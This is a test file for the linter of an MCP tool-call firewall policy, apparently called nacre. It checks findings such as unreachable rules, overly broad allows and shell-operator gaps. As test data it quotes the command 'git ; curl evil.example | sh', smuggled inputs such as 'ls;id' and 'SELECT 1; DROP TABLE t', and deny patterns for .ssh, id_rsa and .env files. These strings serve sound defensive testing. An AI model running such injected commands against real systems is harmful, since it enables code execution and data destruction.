from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nacre.firewall.analysis.findings import Kind
from nacre.firewall.analysis.glob_sets import Language, covers, memberships
from nacre.firewall.analysis.lint import lint
from nacre.firewall.policies.packs import PACKS, text_of
from nacre.firewall.rules.policy import Policy
from tests.firewall.deciding import call, method, policy
from tests.firewall.rules.test_evaluate import rule_texts, values
from tests.scaffolding.laws import examples

CATCH_ALL = '[[rule]]\naction = "deny"\ntool = "**"\n'


def found(text: str) -> list[tuple[int, Kind]]:
    """Return the findings; most of these short policies are about tools only."""
    findings = [(finding.rule, finding.kind) for finding in lint(policy(text))]
    return [each for each in findings if each[1] != "only-tools"]


def rules(*lines: str) -> str:
    """Write rules as `action tool key=value ...`."""
    text = ""
    for line in lines:
        action, tool, *rest = line.split("|")
        text += f"[[rule]]\naction = '{action}'\ntool = '{tool}'\n" + "".join(
            f"{each}\n" for each in rest
        )
    return text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (rules("allow|read|args.path='/a/**'", "deny|write"), []),
        (rules("allow|mcp__fs"), [(1, "never-matches")]),
        (rules("allow|mcp__fs__read|server='git'"), [(1, "never-matches")]),
        (rules("allow|mcp__fs__read|server='f*'"), []),
        (rules("allow|resources/read|args.path='/a'"), [(1, "never-matches")]),
        (rules("allow|read|args.path='/a%20b'"), [(1, "never-matches")]),
        (rules("allow|read|args.path='/a/*/../b'"), [(1, "never-matches")]),
        (rules("deny|*", "allow|read"), [(2, "unreachable")]),
        (rules("deny|*|args.path='/a/**'", "allow|read|args.path='/a/b'"), [(2, "unreachable")]),
        (rules("deny|*|args.path='/a/b'", "allow|read|args.path='/a/**'"), []),
        (rules("deny|*|server='x'", "allow|read"), []),
        (rules("deny|*|server='x*'", "allow|mcp__xy__read"), [(2, "unreachable")]),
        (rules("prompt|a*", "prompt|ab"), [(2, "redundant")]),
        (rules("allow|fs_*", "deny|fs_write"), [(2, "deny-after-allow")]),
        (
            rules("allow|read|args.path='/a/**'", "deny|read|args.path='/a/.ssh/**'"),
            [(2, "deny-after-allow")],
        ),
        (rules("deny|read|args.path='/a/.ssh/**'", "allow|read|args.path='/a/**'"), []),
        (rules("allow|run|args.command='git *'"), [(1, "shell-operators")]),
        (rules("deny|run|args.command='rm -rf *'"), [(1, "star-in-command")]),
        (rules("allow|run|args.text='git *'"), [(1, "star-in-command")]),
        (rules("allow|run|args.text='git **'"), []),
        (rules("allow|read|args.path='/a/?.txt'"), [(1, "question-mark")]),
        (rules("allow|**"), [(1, "broad-allow")]),
        (rules("allow|mcp__*"), [(1, "broad-allow")]),
        (rules("deny|fs_*|args.path='/a/**'", "allow|fs_*"), [(1, "one-argument")]),
        (rules("""deny|fs_*|args."*"='/a/**'""", "allow|fs_*"), []),
        (rules("deny|*|args.n=5", "deny|x|args.n=5"), [(2, "redundant")]),
        (rules("deny|*|args.n=5", "allow|x|args.n=6"), []),
        (rules("deny|*", "allow|resources/read"), []),
        (rules("deny|completion/complete"), [(1, "never-matches")]),
        (rules("deny|tools/call"), [(1, "never-matches")]),
        (rules("deny|resources/*", "deny|sampling/createMessage"), []),
        (rules("deny|team/read"), []),  # a tool may have a name with a slash
        ("[[rule]]\naction = 'deny'\nmethod = '*'\n", [(1, "never-matches")]),
        ("[[rule]]\naction = 'deny'\nmethod = 'resource/read'\n", [(1, "never-matches")]),
        ("[[rule]]\naction = 'deny'\nmethod = '**'\n", []),
    ],
)
def test_what_looks_wrong_is_found(text: str, expected: list[tuple[int, Kind]]) -> None:
    assert found(text) == expected


def test_a_finding_says_what_to_write() -> None:
    finding, _ = lint(policy(rules("allow|run|args.command='git **'")))
    assert str(finding) == (
        "rule 1: args.command = 'git **' covers what a shell makes of ';', '|' and '$()' too: "
        "'git ; curl evil.example | sh' "
        '(write args.command = { glob = "git **", one_command = "git **" })'
    )


def test_an_allowed_tool_behind_a_catch_all_is_unreachable() -> None:
    text = 'allowed_tools = ["mcp__a__b"]\n' + CATCH_ALL
    (finding,) = lint(policy(text))
    assert (finding.origin, finding.kind) == ("allowed_tools 1", "unreachable")


@pytest.mark.parametrize("name", PACKS)
def test_what_nacre_ships_is_clean(name: str) -> None:
    assert found(text_of(name)) == []  # type: ignore[arg-type]


@settings(deadline=None, max_examples=examples(200))
@given(
    st.lists(rule_texts(), min_size=2, max_size=8),
    st.lists(
        st.tuples(
            st.sampled_from(["read", "write", "x"]),
            st.dictionaries(st.sampled_from("pqr"), values, max_size=3),
        ),
        min_size=1,
        max_size=8,
    ),
)
def test_a_rule_that_is_called_unreachable_or_redundant_can_be_left_out(
    texts: list[str], calls: list[tuple[str, dict[str, Any]]]
) -> None:
    whole = policy("".join(texts))
    hidden = [each.rule for each in lint(whole) if each.kind in ("unreachable", "redundant")]
    for number in hidden:
        rest = policy("".join(texts[: number - 1] + texts[number:]))
        for tool, arguments in calls:
            subject = call(tool, arguments)
            assert rest.decide(subject).action == whole.decide(subject).action


globs = st.text(alphabet="ab/*?", min_size=1, max_size=6)


@given(globs, globs)
@settings(max_examples=examples(300), deadline=None)
def test_what_an_example_refutes_is_refuted_by_all_texts(wide: str, narrow: str) -> None:
    assert covers([wide], [narrow]) == (
        0 not in memberships([Language([narrow])], [Language([wide])])
    )


FILES = {
    "fs": [
        {"name": name, "inputSchema": {"type": "object", "properties": {key: {} for key in names}}}
        for name, names in (
            ("read_text_file", ("path", "head")),
            ("read_multiple_files", ("paths",)),
            ("read_pair", ("path", "other_path")),
        )
    ],
    "mail": [{"name": "send", "inputSchema": {"properties": {"to": {}, "body": {}}}}],
}


@pytest.mark.parametrize(
    ("text", "kind", "near"),
    [
        (
            "allow|send|only_args=['to']|args.to='*@acme.org'",
            "address-list",
            "allow|send|only_args=['to']|args.to='ann@acme.org'",
        ),
        (
            "deny|send|args.cc='*@evil.org'",
            "address-list",
            "deny|send|args.cc.every_address='*@evil.org'",
        ),
        (
            "allow|mail|args.to.every_address='*@acme.org'",
            "other-recipients",
            "allow|mail|only_args=['to']|args.to.every_address='*@acme.org'",
        ),
        (
            "allow|run|args.command='git **'",
            "shell-operators",
            "allow|run|args.command={glob='git **',one_command='git **'}",
        ),
        ("allow|run|args.cmd='ls*'", "shell-operators", "allow|run|args.cmd='ls -l'"),
        (
            "allow|run|args.command='git *'",
            "shell-operators",
            "allow|run|args.command.one_command='git **'",
        ),
        (
            "allow|ask|args.query='SELECT **'",
            "sql-statements",
            "allow|ask|args.query.one_statement='select'",
        ),
        ("allow|ask|args.sql='**'", "sql-statements", "allow|ask|args.query='weather **'"),
        (
            "allow|resources/read|args.uri='*'",
            "star-in-resource",
            "allow|resources/read|args.uri='file:///a/*'",
        ),
        (
            "deny|resources/read|args.uri='*.env'",
            "star-in-resource",
            "deny|resources/read|args.uri='**/*.env'",
        ),
        (
            "deny|look|args.text='*secret*'",
            "letter-case",
            "deny|look|ignore_case=true|args.text='*secret*'",
        ),
        *(
            (
                f"{action}|look|args.{key}='{glob}'",
                "no-absolute-path",
                f"deny|look|args.path='{near}'",
            )
            for action in ("deny", "prompt")
            for key, glob, near in (
                ("path", "*.env", "**/*.env"),
                ("path", ".env", "**/.env"),
                ("filePath", "id_rsa", "/**/id_rsa"),
                ("folder", "*", "**"),
                ("'*'", "*.pem", "*/x"),
                ("files", "./*.key", ".github/**"),
            )
        ),
        ("deny|get|args.url='*evil*'", "no-absolute-path", "deny|get|args.profile='adm-1'"),
        ("deny|look|args.path='*secret*'", "no-absolute-path", "deny|look|args.direction='up'"),
        (
            "deny|look|args.path='**/*secret*'",
            "letter-case",
            "deny|look|ignore_case=true|args.path='**/*secret*'",
        ),
        ("prompt|look|args.text='DROP**'", "letter-case", "prompt|look|args.text='2024-*'"),
        ("deny|look|args.text='*secret*'", "letter-case", "allow|look|args.text='*public*'"),
        ("deny|look|args.text='*secret*'", "letter-case", "deny|look|args.text='secret'"),
        ("deny|look|args.p='*secret*'", "letter-case", "deny|look|args.p='**/.ssh/**'"),
        (
            "deny|read_*|args.path='/etc/**'",
            "other-argument",
            "deny|read_*|args.'*'='/etc/**'",
        ),
        (
            "allow|read_m*|args.path='/srv/**'",
            "other-argument",
            "allow|read_t*|args.path='/srv/**'",
        ),
        (
            "allow|read_pair|args.path='/srv/**'",
            "other-argument",
            "allow|read_pair|only_args=['path']|args.path='/srv/**'",
        ),
    ],
)
def test_rules_that_say_less_than_they_seem_are_told_from_their_like(
    text: str, kind: Kind, near: str
) -> None:
    def kinds(line: str) -> list[Kind]:
        findings = lint(policy(rules(line)), FILES)
        return [each.kind for each in findings if each.kind != "only-tools"]

    assert kinds(text) == [kind]
    assert kinds(near) == []


def test_a_server_whose_messages_have_no_copies_needs_no_word_about_them() -> None:
    text = rules("allow|send|args.to.every_address='*@acme.org'")

    assert [each.kind for each in lint(policy(text), {"mail": FILES["mail"]})] == ["only-tools"]


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (rules("allow|read"), True),
        (rules("prompt|*"), True),
        ('allowed_tools = ["mcp__fs__read"]', True),
        (rules("deny|read"), False),
        (rules("allow|read") + "[[rule]]\naction='deny'\nprompt='**'\n", False),
        (rules("allow|read") + "[[rule]]\naction='allow'\nresource='file:///a/**'\n", False),
        (rules("allow|read", "deny|**"), False),
    ],
)
def test_a_policy_of_tools_only_is_told_that_it_denies_prompts(text: str, says: bool) -> None:
    assert ("only-tools" in [each.kind for each in lint(policy(text))]) is says


ADVISED = (
    *("args.to = '*@acme.org'", "args.cc = '*@evil.org'", "args.command = 'git **'"),
    *("args.command = 'ls*'", "args.query = 'SELECT **'", "args.query = 'select *'"),
    *("args.sql = '**'", "args.text = '*secret*'", "args.path = '/srv/**'", "args.n = 5"),
    *("args.path = '*secret*'", "args.path = '.env'", "args.url = '*evil*'", "args.'*' = '*.env'"),
    *("args.command = 'rm *'", "args.path = '/srv/?.txt'", "ignore_case = true\nargs.to = 'a*'"),
    *("only_args = ['to']\nargs.to = '*@acme.org'", "args.uri = '*'", "args.'*' = '**/x'"),
)
SAID = (
    *("ann@acme.org", "eve@evil.org, ann@acme.org", "Ann <ann@acme.org>", "ann@ACME.org", ""),
    *("git log", "git log; id", " git  log", "git log %00", "ls", "ls;id", "ls -l", "lsblk//"),
    *("SELECT 1", "select 1", "SELECT 1; DROP TABLE t", "with a as (select 1) select 1"),
    *("My-SECRET", "a secret", "/srv/a", "/srv/../etc", "/etc/x", "rm /x", "/srv/a.txt", "x"),
)


@st.composite
def advised_rules(draw: st.DrawFn) -> str:
    action = draw(st.sampled_from(["allow", "allow", "deny", "prompt"]))
    tool = draw(st.sampled_from(["send", "s*", "*", "**", "read_pair", "read_*", "mcp__fs__*"]))
    about = f"tool = '{tool}'" if draw(st.integers(0, 6)) else "method = 'resources/read'"
    tests = draw(st.lists(st.sampled_from(ADVISED), max_size=1))
    return f"[[rule]]\naction = '{action}'\n{about}\n" + "".join(f"{each}\n" for each in tests)


said = st.sampled_from(SAID)
arguments = st.dictionaries(
    st.sampled_from(["to", "cc", "command", "query", "sql", "text", "path", "uri", "n", "other"]),
    st.one_of(said, said, st.lists(said, max_size=2), st.sampled_from([5, None, {"a": "x"}])),
    max_size=3,
)


@settings(deadline=None, max_examples=examples(400))
@given(
    st.lists(advised_rules(), min_size=1, max_size=4),
    st.lists(
        st.tuples(st.sampled_from(["send", "read_pair", "resources/read"]), arguments), min_size=4
    ),
)
def test_no_advice_allows_a_call_that_was_not_allowed(
    texts: list[str], calls: list[tuple[str, dict[str, Any]]]
) -> None:
    before = policy("".join(texts))
    subjects = [method(name, given) if "/" in name else call(name, given) for name, given in calls]
    for finding in lint(before, FILES):
        if finding.fix is None:
            continue
        after = Policy("", "followed", finding.fix)
        for subject in subjects:
            if after.decide(subject).action == "allow":
                assert before.decide(subject).action == "allow", finding


def test_no_advice_is_a_wider_glob() -> None:
    text = rules(
        *("allow|run|args.command='git *'", "allow|ask|args.query='SELECT *'"),
        *("allow|run|args.text='a *'", "allow|read|args.path='/a/?.txt'", "allow|mcp__fs"),
        *("allow|resources/read|args.uri='*'", "prompt|x", "allow|x"),
    )

    hints = [each.hint for each in lint(policy(text)) if each.kind != "only-tools"]
    assert not [hint for hint in hints if "**" in hint or "move it" in hint]


@pytest.mark.parametrize(
    ("glob", "blind"),
    [
        *(("*secret*", "/srv/my-secret.txt"), ("*password*", "/srv/passwords.txt")),
        *(("*.env", "/srv/a.env"), (".env", "/srv/app/.env"), ("./.env", "/srv/.env")),
    ],
)
def test_a_deny_that_covers_no_absolute_path_is_named_with_the_glob_that_does(
    glob: str, blind: str
) -> None:
    before = policy(rules(f"deny|*|args.path='{glob}'", "allow|read|args.path='/srv/**'"))
    findings = lint(before)
    [finding] = [each for each in findings if each.kind == "no-absolute-path"]

    assert before.decide(call("read", {"path": blind})).action == "allow"
    assert finding.fix is not None
    after = Policy("", "followed", finding.fix)
    assert after.decide(call("read", {"path": blind})).action == "deny"
    assert f"args.path = '**/{glob.removeprefix('./')}'" in finding.hint


@pytest.mark.parametrize(
    ("line", "hint"),
    [
        (
            "deny|x|args.path=['*.env', '/etc/*', '.ssh']",
            "args.path = ['**/*.env', '/etc/*', '**/.ssh']",
        ),
        ("allow|run|args.command=['git *', 'ls *']", 'one_command = ["git *", "ls *"]'),
        ("allow|run|args.sql=['SELECT *', 'INSERT *']", 'one_statement = ["select", "insert"]'),
        ("allow|send|args.to=['*@a.org', '*@b.org']", 'every_address = ["*@a.org", "*@b.org"]'),
        ("deny|send|args.to=['*@a.org', '*@b.org']", "every_address = ['*@a.org', '*@b.org']"),
    ],
)
def test_advice_about_a_list_of_globs_names_them_all(line: str, hint: str) -> None:
    assert [each for each in lint(policy(rules(line))) if hint in each.hint]


def result_limits(*lines: str) -> str:
    """Write limits of results as `tool bytes`."""
    text = ""
    for line in lines:
        tool, size = line.split("|")
        text += f"[[limit]]\ntool = '{tool}'\nresult_bytes = {size}\n"
    return text


def limits(*lines: str) -> str:
    """Write limits as `tool calls key=value ...`, a minute each."""
    text = ""
    for line in lines:
        tool, calls, *rest = line.split("|")
        text += f"[[limit]]\ntool = '{tool}'\ncalls = {calls}\nper = 'minute'\n"
        text += "".join(f"{each}\n" for each in rest)
    return text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (rules("allow|read") + limits("read|5"), []),
        (rules("allow|read") + limits("**|5", "read|3"), []),
        (rules("prompt|read") + limits("re*|5"), []),
        (rules("allow|read") + limits("write|5"), [(1, "counts-nothing")]),
        (rules("allow|read", "deny|write") + limits("write|5"), [(1, "counts-nothing")]),
        (rules("allow|read|server='a'") + limits("read|5|server='b'"), [(1, "counts-nothing")]),
        (rules("allow|read") + limits("**|3", "read|5"), [(2, "unreachable")]),
        (rules("allow|read") + limits("read|5", "**|5"), [(1, "unreachable")]),
        (rules("allow|read") + limits("read|5", "read|5"), [(2, "unreachable")]),
        (rules("allow|read") + limits("**|3|by='caller'", "read|5"), []),
        (rules("allow|read") + limits("**|3", "read|5|by='caller'"), [(2, "unreachable")]),
        (rules("allow|read") + limits("read|3|args.x='a'", "read|5"), []),
        (rules("allow|read") + limits("read|3", "read|5|args.x='a'"), [(2, "unreachable")]),
        (rules("allow|read") + limits("read|3|action='prompt'", "read|5"), []),
        (rules("allow|read") + limits("read|3", "read|5|action='prompt'"), [(2, "unreachable")]),
        (rules("allow|read") + limits("read|3", "read|5").replace("minute", "hour", 1), []),
        (rules("allow|read") + limits("read|3") + result_limits("read|5000"), []),
        (rules("allow|read") + result_limits("**|3000", "read|5000"), [(2, "unreachable")]),
        (rules("allow|read") + result_limits("**|5000", "read|3000"), []),
        (rules("allow|read") + result_limits("write|5000"), [(1, "counts-nothing")]),
    ],
)
def test_limits_that_do_nothing_are_found(text: str, expected: list[tuple[int, Kind]]) -> None:
    found_limits = [
        (finding.rule, finding.kind)
        for finding in lint(policy(text))
        if finding.origin.startswith("limit") and finding.kind != "never-matches"
    ]
    assert found_limits == expected


def test_a_limit_on_what_no_call_is_called_is_found() -> None:
    text = rules("allow|mcp__fs__*") + limits("mcp__fs__read|5|server='git'")
    assert "limit 1: the tool is of server 'fs', and server is 'git'" in str(lint(policy(text))[1])
